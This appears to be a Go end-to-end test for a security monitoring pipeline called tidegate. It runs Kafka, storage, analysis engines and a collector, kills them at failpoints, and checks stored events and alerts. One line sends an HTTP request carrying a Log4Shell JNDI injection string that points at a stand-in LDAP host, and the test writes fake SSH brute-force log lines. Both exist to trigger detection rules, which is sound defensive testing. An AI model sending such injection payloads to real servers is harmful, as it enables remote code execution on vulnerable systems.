package main

import (
	"encoding/base64"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"tidegate/pipeline/engine"
)

const (
	kafkaHeap    = "-Xmx512m"
	kafkaVersion = "4.1.0"
	kafkaConfig  = `process.roles=broker,controller
node.id=1
controller.quorum.voters=1@127.0.0.1:9093
listeners=PLAINTEXT://127.0.0.1:9092,CONTROLLER://127.0.0.1:9093
advertised.listeners=PLAINTEXT://127.0.0.1:9092
controller.listener.names=CONTROLLER
log.dirs=%s
offsets.topic.replication.factor=1
offsets.topic.num.partitions=1
group.initial.rebalance.delay.ms=0
`
	onKafkaConfig = `data_dir: %[1]s/state
host: kafka1
cluster: kafka
metrics:
  listen: 127.0.0.1:%%d
kafka:
  brokers: [127.0.0.1:9092]
  partitions: 4
  assign: group
capture:
  interfaces: [eth0]
containers:
  docker_host: unix://%[1]s/nobody.sock
logs:
  docker_data_root: %[1]s/root
`
)

// kafkaSetup is tidegate on Apache Kafka: a namespace with the broker, the embedded ClickHouse, two engines
// and a collector as separate processes, and the outside behind eth0. There is no dockerd: the test writes
// the log files of the containers.
type kafkaSetup struct {
	*e2eSystem
	libs string
	logs []*logWriter
	stop chan struct{}
	done sync.WaitGroup
	hold sync.RWMutex // held while no log may be rotated
}

// kafkaLibs returns the folder of the jars of Kafka, which deploy/setup-test.sh fetches. Where CI is set they
// must exist.
func kafkaLibs(t *testing.T) string {
	t.Helper()
	missing := t.Skipf
	if os.Getenv("CI") != "" {
		missing = t.Fatalf
	}
	if _, err := exec.LookPath("java"); err != nil {
		missing("Apache Kafka needs java: %v", err)
	}
	cache, err := os.UserCacheDir()
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(cache, "tidegate")
	if d := os.Getenv("TIDEGATE_CACHE"); d != "" {
		dir = d
	}
	dir = filepath.Join(dir, "kafka-"+kafkaVersion)
	if !exists(filepath.Join(dir, "complete")) {
		missing("Apache Kafka %s is not in %s; deploy/setup-test.sh fetches it", kafkaVersion, dir)
	}
	return filepath.Join(dir, "libs")
}

// newKafkaSetup starts everything but the collector.
func newKafkaSetup(t *testing.T) *kafkaSetup {
	libs := kafkaLibs(t)
	if os.Geteuid() != 0 {
		t.Skip("network namespaces need root")
	}
	h := &dockerHost{t: t, dir: t.TempDir(), ns: fmt.Sprintf("tgkafka%d", os.Getpid()), out: fmt.Sprintf("tgkout%d", os.Getpid())}
	t.Cleanup(h.down)
	h.network()
	k := &kafkaSetup{libs: libs, stop: make(chan struct{}), e2eSystem: &e2eSystem{dockerHost: h, bin: binary(t), state: filepath.Join(h.dir, "state"), procs: map[string]*exec.Cmd{}}}
	t.Cleanup(k.end)
	for i, name := range []string{"collect", "analyze", "analyze-b", "store"} {
		h.check(os.WriteFile(filepath.Join(h.dir, name+".yaml"), fmt.Appendf(nil, fmt.Sprintf(onKafkaConfig, h.dir), 9464+i), 0o600))
	}
	k.formatKafka()
	k.startKafka()
	k.start("store", nil, "run", "--only", "store")
	k.waitKafka()
	k.eventually("the store", 60*time.Second, func() string {
		if !exists(filepath.Join(k.state, "store", "ports")) {
			return string(k.logTail("store"))
		}
		return ""
	})
	k.requireNoFailure()
	k.start("analyze", nil, "analyze")
	return k
}

func (k *kafkaSetup) java(args ...string) *exec.Cmd {
	return k.inside("java", append([]string{kafkaHeap, "-XX:+UseSerialGC", "-XX:TieredStopAtLevel=1", "-Dorg.slf4j.simpleLogger.defaultLogLevel=warn", "-cp", k.libs + "/*"}, args...)...)
}

func (k *kafkaSetup) formatKafka() {
	conf := filepath.Join(k.dir, "server.properties")
	k.check(os.WriteFile(conf, fmt.Appendf(nil, kafkaConfig, filepath.Join(k.dir, "kafka")), 0o600))
	id := base64.RawURLEncoding.EncodeToString([]byte("tidegate's test!"))
	k.must(k.java("kafka.tools.StorageTool", "format", "-t", id, "-c", conf))
}

func (k *kafkaSetup) startKafka() {
	k.background("kafka", k.java("kafka.Kafka", filepath.Join(k.dir, "server.properties")))
}

func (k *kafkaSetup) waitKafka() {
	k.t.Helper()
	k.eventually("kafka answers", 60*time.Second, func() string {
		if err := k.inside("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9092").Run(); err != nil {
			return err.Error() + ": " + string(k.logTail("kafka"))
		}
		return ""
	})
}

func (k *kafkaSetup) startCollector() {
	k.t.Helper()
	k.start("collect", nil, "collect")
	k.waitMetrics(9464)
	k.waitMetric(9464, `tidegate_capture_workers{interface="eth0"}`, 1)
}

// end stops the processes that still run, clients before servers.
func (k *kafkaSetup) end() {
	select {
	case <-k.stop:
	default:
		close(k.stop)
	}
	k.done.Wait()
	order := []string{"collect", "analyze-b", "analyze", "store", "web", "kafka"}
	if k.t.Failed() {
		for _, name := range order {
			k.t.Logf("log of %s:\n%s", name, k.logTail(name))
		}
	}
	k.terminate(order...)
}

// requireNoFailure ends the test if it has failed already: the following steps would only wait.
func (k *kafkaSetup) requireNoFailure() {
	k.t.Helper()
	if k.t.Failed() {
		k.t.FailNow()
	}
}

// waitKill waits until a process has killed itself at its failpoint.
func (k *kafkaSetup) waitKill(name string) {
	k.t.Helper()
	cmd := k.procs[name]
	k.waitDeath(name)
	if ws, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); !ok || ws.Signal() != syscall.SIGKILL {
		k.t.Fatalf("%s ended with %v\n%s", name, cmd.ProcessState, k.logTail(name))
	}
}

// A logWriter writes and rotates the log of one container as dockerd does.
type logWriter struct {
	k      *kafkaSetup
	id     string
	dir    string
	rotate int // lines of a file
	keep   int // files, including the open one
	lines  atomic.Int64
	caught atomic.Int64 // lines that match a rule
}

func (k *kafkaSetup) writer(n, rotate, keep int) {
	id := fmt.Sprintf("%064x", 0xc0ffee00+n)
	w := &logWriter{k: k, id: id, dir: filepath.Join(k.dir, "root", "containers", id), rotate: rotate, keep: keep}
	k.check(os.MkdirAll(w.dir, 0o700))
	k.logs = append(k.logs, w)
	k.done.Go(func() {
		if err := w.run(); err != nil {
			k.t.Errorf("write the log of %s: %v", id, err)
		}
	})
}

func (w *logWriter) run() error {
	path := filepath.Join(w.dir, w.id+"-json.log")
	open := func() (*os.File, error) { return os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o600) }
	f, err := open()
	if err != nil {
		return err
	}
	defer func() { _ = f.Close() }()
	tick := time.NewTicker(8 * time.Millisecond)
	defer tick.Stop()
	for i, in := int64(0), 0; ; i++ {
		select {
		case <-w.k.stop:
			return nil
		case <-tick.C:
		}
		text := fmt.Sprintf("line %d", i)
		if i%20 == 7 {
			text = fmt.Sprintf("Failed password for invalid user u%d from 203.0.113.4 port 51515 ssh2", i)
			w.caught.Add(1)
		}
		if _, err := fmt.Fprintf(f, `{"log":"%s\n","stream":"stdout","time":"%s"}`+"\n", text, time.Now().UTC().Format(time.RFC3339Nano)); err != nil {
			return err
		}
		w.lines.Add(1)
		if in++; in < w.rotate || !w.k.hold.TryRLock() {
			continue
		}
		in = 0
		_ = f.Close()
		for n := w.keep - 1; n > 0; n-- {
			from := fmt.Sprintf("%s.%d", path, n-1)
			if n == 1 {
				from = path
			}
			_ = os.Rename(from, fmt.Sprintf("%s.%d", path, n)) // the first rotations find no older files
		}
		f, err = open()
		w.k.hold.RUnlock()
		if err != nil {
			return err
		}
	}
}

// visit sends n requests from outside, and one that matches a rule.
func (k *kafkaSetup) visit(name string, n int) {
	k.t.Helper()
	k.must(k.visitor(workload{Case: name, N: n, HTTP: hostIP + ":8080", Every: 5 * time.Millisecond}))
	k.must(k.outside("curl", "-sf", "-A", "${jndi:ldap://192.0.2.66/a}", "http://"+hostIP+":8080/probe/"+name))
}

// TestKafka runs engine and collector on Apache Kafka. Two engines share the partitions of a group; both are
// killed, one of them at failpoints of a block, and so are the collector and the broker. Logs are written
// without a pause; clients pause while the collector is down.
func TestKafka(t *testing.T) {
	if testing.Short() {
		t.Skip("it starts Apache Kafka")
	}
	k := newKafkaSetup(t)
	self, err := os.Executable()
	k.check(err)
	web := k.inside(self)
	web.Env = append(os.Environ(), "TIDEGATE_WORK="+workload{Serve: hostIP + ":8080"}.String())
	k.background("web", web)
	k.waitMetrics(9465)
	k.start("analyze-b", []string{"TIDEGATE_FAILPOINT=" + engine.AfterInsert + ":3"}, "analyze")
	for n := range 6 {
		k.writer(n, 150+50*n, 4)
	}
	k.startCollector()
	const n = 60
	visits := 0
	visit := func() { k.visit(fmt.Sprintf("k%d", visits), n); visits++ }

	visit()
	k.waitKill("analyze-b")
	k.start("analyze-b", []string{"TIDEGATE_FAILPOINT=" + engine.AfterIntent + ":2"}, "analyze")
	visit()
	k.waitKill("analyze-b")
	k.kill("analyze")
	k.start("analyze", nil, "analyze")
	k.start("analyze-b", nil, "analyze")
	visit()

	k.kill("kafka") // lines wait in their files or, where those are deleted, in the spool; requests wait in the spool
	visit()
	k.startKafka()
	k.waitKafka()
	visit()

	time.Sleep(2 * time.Second) // captured traffic is acknowledged or spooled; no client sends
	k.hold.Lock()               // a file that is deleted while no collector runs is lost
	acked := metric(k.metrics(9464), "tidegate_collector_events_safe_total")
	k.kill("collect")
	k.startCollector()
	visit()
	time.Sleep(time.Second)
	k.hold.Unlock()
	time.Sleep(2 * time.Second)
	close(k.stop)
	k.done.Wait()

	k.requireNoFailure()
	k.verdicts(visits, n)
	k.expectAtLeast("what was acknowledged is there", `SELECT count() FROM events`, acked)
}

// expect is e2eSystem.expect, but ends the test after a failure.
func (k *kafkaSetup) expect(what, sql string, want ...string) {
	k.t.Helper()
	k.e2eSystem.expect(what, sql, want...)
	k.requireNoFailure()
}

// verdicts compares the stored verdicts with the visits that were made.
func (k *kafkaSetup) verdicts(visits, n int) {
	k.t.Helper()
	for i := range visits {
		k.expect("requests", fmt.Sprintf(`SELECT count(), uniqExact("event.id"), uniqExact("url.path"), countIf("event.partial") FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/k%d/%%'`, i), fmt.Sprintf("%d %d %d 0", n, n, n))
	}
	var lines, caught []string
	for _, w := range k.logs {
		lines = append(lines, fmt.Sprintf("%s %d %d %d", w.id[56:], w.lines.Load(), w.lines.Load(), w.lines.Load()))
		caught = append(caught, fmt.Sprintf("%s %d", w.id[56:], w.caught.Load()))
	}
	k.expect("lines", `SELECT substring("container.id", 57), count(), uniqExact("event.id"), uniqExact(message) FROM events WHERE "event.dataset" = 'log' GROUP BY 1 ORDER BY 1`, lines...)
	k.expect("alerts of lines", `SELECT substring(container_id, 57), sum(count) FROM alerts_now WHERE rule = 'log-ssh-failed' GROUP BY 1 ORDER BY 1`, caught...)
	k.expect("alerts of requests", `SELECT sum(count) FROM alerts_now WHERE rule = 'http-log4shell'`, fmt.Sprint(visits))
	k.expect("alerts count what is stored", `SELECT count() FROM (SELECT rule, sum(count) AS n FROM alerts_now GROUP BY rule) AS a FULL OUTER JOIN (SELECT arrayJoin("verdict.rule") AS rule, count() AS n FROM events GROUP BY rule) AS v USING (rule) WHERE a.n != v.n`, "0")
	k.expect("nothing is there twice", `SELECT count() = uniqExact("event.id"), count() = uniqExact((_partition, _offset, _index)), uniqExact(_partition) > 1 FROM events`, strings.Join([]string{"1", "1", "1"}, " "))
	k.expect("no alert is there twice", `SELECT count() = uniqExact(id, revision) FROM alerts`, "1")
}
